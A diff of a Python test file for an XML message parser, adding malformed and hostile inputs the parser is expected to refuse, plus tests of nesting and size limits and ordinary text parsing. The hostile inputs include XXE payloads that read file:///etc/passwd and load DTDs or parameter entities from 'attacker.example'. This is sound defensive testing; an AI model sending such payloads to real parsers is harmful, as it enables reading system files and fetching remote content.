@@ -130,12 +130,43 @@ def test_xml_round_trip_keeps_text_and_numbers():
         b"<xml>" + b"<A/>" * 1000 + b"</xml>",
         b'<!DOCTYPE xml [<!ENTITY x "boom">]><xml><A>&x;</A></xml>',
         b'<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml><A>&x;</A></xml>',
+        b'<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml><A>1</A></xml>',
+        b'<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><xml/>',
+        b"<xml><A>&undeclared;</A></xml>",
+        b"<xml><A>1</A></xml><xml/>",
         b"",
     ],
 )
 def test_hostile_or_malformed_xml_is_refused(body):
     with pytest.raises(MessageXmlError):
         parse_message(body)
+
+
+def test_the_limits_are_where_they_are_said_to_be():
+    """Eight elements nested below <xml> and a thousand elements in all are read; one more
+    of either is refused (the bounds are MAX_DEPTH and MAX_ELEMENTS)."""
+    deep = b"<xml>" + b"<A>" * 8 + b"x" + b"</A>" * 8 + b"</xml>"
+    value = parse_message(deep)
+    for _ in range(7):
+        value = value["A"]
+    assert value == {"A": "x"}
+    wide = b"<xml>" + b"<A/>" * 999 + b"</xml>"
+    assert len(parse_message(wide)["A"]) == 999
+
+
+def test_text_comments_and_attributes_read_as_before():
+    body = (
+        b"<?xml version='1.0' encoding='utf-8'?><xml><!-- a comment -->"
+        b"<Content><![CDATA[  two  ]]> words </Content>"
+        b'<MsgType kind="x"> <![CDATA[text]]> </MsgType>'
+        b"<Pic><item><Url>a</Url></item>layout<item><Url>b</Url></item></Pic>"
+        b"<?pi ignored?></xml>"
+    )
+    assert parse_message(body) == {
+        "Content": "  two   words ",
+        "MsgType": "text",
+        "Pic": {"item": [{"Url": "a"}, {"Url": "b"}]},
+    }
 
 
 # WeChat's own WXBizMsgCrypt sample (the Python Sample.py shipped with the official SDK, reproduced
